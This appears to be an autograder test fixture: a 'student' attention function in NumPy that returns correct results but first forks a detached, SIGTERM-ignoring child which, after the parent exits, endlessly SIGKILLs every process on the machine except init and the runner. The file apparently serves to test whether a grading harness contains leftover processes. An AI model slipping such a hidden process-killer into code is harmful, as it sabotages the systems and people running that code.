"""Right, but leaves processes behind that kill whatever comes next.

Expected: passed
Graded: whole
"""

import contextlib
import os
import signal
import time

import numpy as np


def student_attention(Q, K, V, mask=None):
    parent, runner = os.getpid(), os.getppid()
    if os.fork() == 0:
        os.setsid()
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while os.getppid() == parent:
            time.sleep(0.001)
        while True:
            for process in map(int, filter(str.isdigit, os.listdir("/proc"))):
                if process not in (1, runner, os.getpid()):
                    with contextlib.suppress(OSError):
                        os.kill(process, signal.SIGKILL)
    scores = Q @ K.transpose(0, 2, 1) / np.sqrt(Q.shape[-1])
    if mask is not None:
        scores = scores + mask * -1e9
    weights = np.exp(scores - scores.max(-1, keepdims=True))
    weights = weights / weights.sum(-1, keepdims=True)
    return weights @ V, weights
